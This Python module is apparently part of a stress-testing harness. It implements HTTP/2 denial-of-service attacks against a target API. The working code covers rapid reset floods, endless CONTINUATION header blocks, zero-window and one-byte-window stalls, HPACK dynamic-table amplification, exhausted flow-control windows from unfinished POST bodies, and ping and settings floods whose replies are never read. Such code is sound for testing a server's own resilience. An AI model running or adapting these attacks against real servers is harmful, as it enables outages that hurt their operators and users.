"""HTTP/2: windows, resets, and frames that cost more to receive than to send."""

import asyncio
import struct
from collections.abc import Awaitable, Callable

import http2
from attacks import attack, variant
from load import Connection, Target, all_of

BUNDLE = "/api/docs/swagger-ui-bundle.js"
STREAMS = 120


async def session(
    target: Target, connections: int, work: Callable[[Connection], Awaitable[None]], **settings: int
) -> None:
    """Run the work on this many connections of HTTP/2, and keep each open until the server closes it."""

    async def one(_: int) -> None:
        connection, reader = await http2.connect(target, **settings)
        try:
            writer = asyncio.create_task(work(connection))
            await asyncio.wait([reader, writer], return_when=asyncio.FIRST_COMPLETED)
            if not reader.done() and writer.exception() is None:
                await reader
            writer.cancel()
        finally:
            reader.cancel()
            connection.close()

    await all_of(connections, one)


def requests(target: Target, path: str, count: int = STREAMS, token: str | None = None) -> bytes:
    block = http2.head(target, "GET", path, token=token)
    flags = http2.END_HEADERS | http2.END_STREAM
    return b"".join(http2.frame(http2.HEADERS, flags, 2 * number + 1, block) for number in range(count))


@variant(
    "b",
    "closed_windows_of_lists",
    "6 connections with a window of 0 that ask 100 times for a list of thousands of sessions",
    6,
    lambda target: requests(target, "/api/sessions", 100, target.hoarder.token),
    hoarder=True,
)
@variant(
    "b",
    "many_closed_windows",
    "40 connections with a window of 0 that ask 100 times for the contract",
    40,
    lambda target: requests(target, "/api/openapi.json", 100),
)
@variant(
    "b",
    "closed_windows",
    "6 connections with a window of 0 that ask 120 times for the largest file",
    6,
    lambda target: requests(target, BUNDLE),
)
async def unread_answers(target: Target, connections: int, wanted: Callable[[Target], bytes]) -> None:
    frames = wanted(target)
    await session(target, connections, lambda connection: connection.send(frames), window=0)


@attack("b")
async def windows_of_one_byte(target: Target) -> None:
    """6 connections that open the windows of 120 streams by one byte per second"""

    async def work(connection: Connection) -> None:
        await connection.send(requests(target, BUNDLE))
        while True:
            await asyncio.sleep(1)
            await connection.send(b"".join(http2.window_update(2 * number + 1, 1) for number in range(STREAMS)))

    await session(target, 6, work, window=0)


@attack("b")
async def windows_that_open_and_close(target: Target) -> None:
    """connections that change the initial window of 100 streams again and again"""

    async def work(connection: Connection) -> None:
        await connection.send(requests(target, BUNDLE, 100))
        while True:
            await connection.send(http2.settings(window=1) + http2.settings(window=0))
            await asyncio.sleep(0.002)

    await session(target, 8, work, window=0)


@variant(
    "i",
    "resets_by_the_server",
    "frames that make the server reset its streams",
    "/api/server/ping",
    lambda stream: http2.window_update(stream, 0),
    False,
)
@variant(
    "i",
    "rapid_resets",
    "requests that are reset at once",
    "/api/users/me",
    lambda stream: http2.frame(http2.RESET, 0, stream, struct.pack(">I", 8)),
    True,
)
async def resets(target: Target, path: str, reset: Callable[[int], bytes], with_token: bool) -> None:
    """Requests, each followed by a frame that ends its stream."""
    block = http2.head(target, "GET", path, token=target.user.token if with_token else None)

    async def work(connection: Connection) -> None:
        stream = 1
        while stream < 1 << 30:
            frames = []
            for stream in range(stream, stream + 200, 2):
                frames.append(http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, block))
                frames.append(reset(stream))
            stream += 2
            await connection.send(b"".join(frames))

    await session(target, 8, work)


def head_of_get(target: Target) -> bytes:
    return http2.frame(http2.HEADERS, 0, 1, http2.head(target, "GET", "/api/server/ping"))


def head_of_login(target: Target) -> bytes:
    block = http2.head(target, "POST", "/api/auth/login", ("content-type", "application/json"))
    return http2.frame(http2.HEADERS, http2.END_HEADERS, 1, block)


def priorities() -> bytes:
    payload = struct.pack(">IB", 0, 1)
    return b"".join(http2.frame(http2.PRIORITY, 0, stream, payload) for stream in range(1, 1_000, 2))


@variant(
    "i",
    "empty_data",
    "empty DATA frames without end",
    lambda: http2.frame(http2.DATA, 0, 1) * 1_000,
    head_of_login,
)
@variant("i", "priorities", "priorities of streams that do not exist", priorities)
@variant("i", "settings_frames", "settings", lambda: http2.settings(window=65_535) * 500)
@variant("i", "pings", "pings", lambda: http2.frame(http2.PING, payload=bytes(8)) * 500)
@variant(
    "i",
    "empty_continuations",
    "header blocks of empty frames without end",
    lambda: http2.frame(http2.CONTINUATION, 0, 1) * 1_000,
    head_of_get,
)
@variant(
    "i",
    "continuations",
    "header blocks without end",
    lambda: http2.frame(http2.CONTINUATION, 0, 1, http2.literal("x", "v" * 1_000)) * 16,
    head_of_get,
    16,
)
async def repeated_frames(
    target: Target,
    frames: Callable[[], bytes],
    first: Callable[[Target], bytes] = lambda _: b"",
    connections: int = 8,
) -> None:
    """The same frames again and again, after those that `first` returns."""
    data = frames()

    async def work(connection: Connection) -> None:
        await connection.send(first(target))
        while True:
            await connection.send(data)

    await session(target, connections, work)


@attack("i")
async def referenced_headers(target: Target) -> None:
    """header blocks that refer 3,000 times to a field of 3 KB, which was sent once"""
    base = http2.head(target, "GET", "/api/server/ping")
    indexed = b"\x40" + http2.text("x") + http2.text("v" * 3_000)
    flags = http2.END_HEADERS | http2.END_STREAM

    async def work(connection: Connection) -> None:
        await connection.send(http2.frame(http2.HEADERS, flags, 1, base + indexed))
        stream = 3
        while stream < 1 << 30:
            # 62 is the newest entry of the dynamic table.
            await connection.send(http2.frame(http2.HEADERS, flags, stream, base + b"\xbe" * 3_000))
            stream += 2

    await session(target, 16, work)


@attack("c")
async def unfinished_streams(target: Target) -> None:
    """100 streams on each of 20 connections with bodies that use up the server's windows and never end"""
    block = http2.head(target, "POST", "/api/auth/login", ("content-type", "application/json"))

    async def work(connection: Connection) -> None:
        for number in range(100):
            stream = 2 * number + 1
            await connection.send(http2.frame(http2.HEADERS, http2.END_HEADERS, stream, block))
            for _ in range(4):
                while connection.window < 8_192:
                    await asyncio.sleep(0.02)
                connection.window -= 8_192
                await connection.send(http2.frame(http2.DATA, 0, stream, b" " * 8_192))

    await session(target, 20, work)


@attack("i")
async def answers_that_are_not_read(target: Target) -> None:
    """floods of pings and settings whose acknowledgments are never read"""

    async def one(_: int) -> None:
        connection = await target.connect(receive_buffer=1)
        try:
            await connection.send(http2.PREFACE + http2.settings())
            frames = (http2.frame(http2.PING, payload=bytes(8)) + http2.settings(window=1)) * 500
            while True:
                await connection.send(frames)
        finally:
            connection.close()

    await all_of(32, one)
